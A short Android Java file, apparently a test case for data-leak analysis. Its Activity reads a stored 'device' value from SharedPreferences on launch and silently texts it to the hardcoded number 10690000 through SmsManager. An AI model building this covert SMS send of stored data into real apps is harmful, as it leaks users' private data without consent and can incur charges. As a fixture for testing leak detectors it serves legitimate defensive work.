package p;

import android.app.Activity;
import android.content.SharedPreferences;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.util.Log;

public class Second extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SharedPreferences preferences = getSharedPreferences("main", MODE_PRIVATE);
        Log.i("demo", preferences.getString("theme", ""));
        send(preferences.getString("device", ""));
    }

    private static void send(String text) {
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
